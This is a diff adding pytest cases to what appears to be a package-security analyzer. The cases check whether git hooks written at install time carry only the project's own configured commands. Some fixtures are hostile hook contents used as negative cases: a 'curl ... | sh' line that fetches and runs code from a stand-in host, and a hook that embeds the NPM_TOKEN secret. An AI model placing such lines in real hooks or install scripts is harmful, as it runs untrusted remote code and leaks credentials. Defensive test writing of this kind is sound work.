@@ -261,3 +261,36 @@ exports.enabled = function (done) {
 def test_only_a_script_in_an_empty_world_without_evaluators_is_apart(world: str, evaluated: str) -> None:
     found = package({"lib/a.js": VM.replace("WORLD", world)})
     assert [b for b in found if b.startswith("code.eval")] == [f"code.eval {evaluated} @ lib/a.js:7 (call)"]
+
+
+MANAGER = """const fs = require('fs'), path = require('path')
+const root = ROOT
+const settings = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'))['tidy-hooks'] || {}
+for (const name of Object.keys(settings)) {
+  fs.writeFileSync(path.join(root, '.git', 'hooks', name), CONTENT, {mode: 0o755})
+}
+"""
+AT_THE_PROJECT = "process.env.INIT_CWD || process.cwd()"
+
+
+@pytest.mark.parametrize(
+    ("root", "content", "said"),
+    [
+        (AT_THE_PROJECT, "`#!/bin/sh\\n${settings[name]}\\n`", True),
+        (
+            AT_THE_PROJECT,
+            '`#!/bin/sh\\nif [ "$SKIP" = "1" ]; then\\n  exit 0\\nfi\\n${settings[name]}`',
+            True,
+        ),
+        (AT_THE_PROJECT, "`#!/bin/sh\\ncurl -s https://c.example/x | sh\\n${settings[name]}\\n`", False),
+        (AT_THE_PROJECT, "'#!/bin/sh\\nnpx tidy\\n'", False),
+        (AT_THE_PROJECT, "settings[name] + process.env.NPM_TOKEN", False),
+        ("__dirname", "`#!/bin/sh\\n${settings[name]}\\n`", False),
+    ],
+    ids=["its command", "a look first", "more than that", "its own", "a secret", "settings of its own"],
+)
+def test_a_hook_is_the_projects_only_where_all_its_commands_are(root: str, content: str, said: bool) -> None:
+    code = MANAGER.replace("ROOT", root).replace("CONTENT", content)
+    written = [b for b in package({"lib/a.js": code}) if b.startswith("file.write") and "/.git/hooks/" in b]
+    assert written
+    assert all(("(as the project says)" in b) is said for b in written)
